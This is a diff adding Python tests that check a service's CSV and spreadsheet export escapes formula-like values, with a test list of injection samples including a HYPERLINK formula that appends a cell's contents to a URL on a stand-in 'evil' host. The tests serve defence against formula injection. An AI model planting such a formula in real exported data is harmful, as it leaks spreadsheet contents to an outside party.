@@ -23,7 +23,10 @@ from svc_common.uploads import (
     _csv_rows,
     _loads_line,
     _ndjson_rows,
+    csv_cell,
+    csv_cell_read,
     parse_upload,
+    sheet_cell,
 )
 
 
@@ -302,3 +305,48 @@ def test_a_long_number_on_one_line_is_refused_on_that_line_alone(digits: int) ->
         assert rows[1].data is None and "30" in (rows[1].error or "")
     else:
         assert rows[1].data == {"n": int("7" * digits)}
+
+
+_FORMULAS = [
+    "=1+1",
+    '=HYPERLINK("http://evil/?"&A1,"点我")',
+    "@SUM(1+1)",
+    "+1+1",
+    "-2+3",
+    "\tx",
+    "\rx",
+]
+
+
+def test_a_sheet_never_holds_a_formula_from_a_value() -> None:
+    """Text beginning `=` is written as text: a filed name cannot run in the
+    officer's spreadsheet; read back, every cell is the text as given."""
+    from openpyxl import Workbook, load_workbook
+
+    # (XML reads a carriage return back as a line feed: not one of these.)
+    values = [v for v in _FORMULAS if "\r" not in v] + ["=", "plain", "1.500"]
+    for write_only in (True, False):
+        wb = Workbook(write_only=write_only)
+        ws = wb.create_sheet("s") if write_only else wb.active
+        assert ws is not None
+        ws.append([sheet_cell(v) for v in values])
+        out = io.BytesIO()
+        wb.save(out)
+        back = load_workbook(io.BytesIO(out.getvalue()))
+        cells = next(iter(back["s" if write_only else back.sheetnames[0]].iter_rows()))
+        assert [c.data_type for c in cells] == ["s"] * len(values)
+        assert [c.value for c in cells] == values
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_is_quoted_and_numbers_are_not() -> None:
+    for v in _FORMULAS:
+        assert csv_cell(v) == "'" + v
+    for v in ["-3.200", "+5", "12", "0.001", "plain", "名称", "", None, 3]:
+        assert csv_cell(v) == v
+
+
+@given(st.text(max_size=12) | st.sampled_from([*_FORMULAS, "'", "''=", "-1", "-x"]))
+def test_csv_escaping_is_undone_exactly(text: str) -> None:
+    escaped = csv_cell(text)
+    assert not escaped or escaped[0] not in "=+-@\t\r" or re.fullmatch(r"[+-]?[0-9.]+", escaped)
+    assert csv_cell_read(escaped) == text
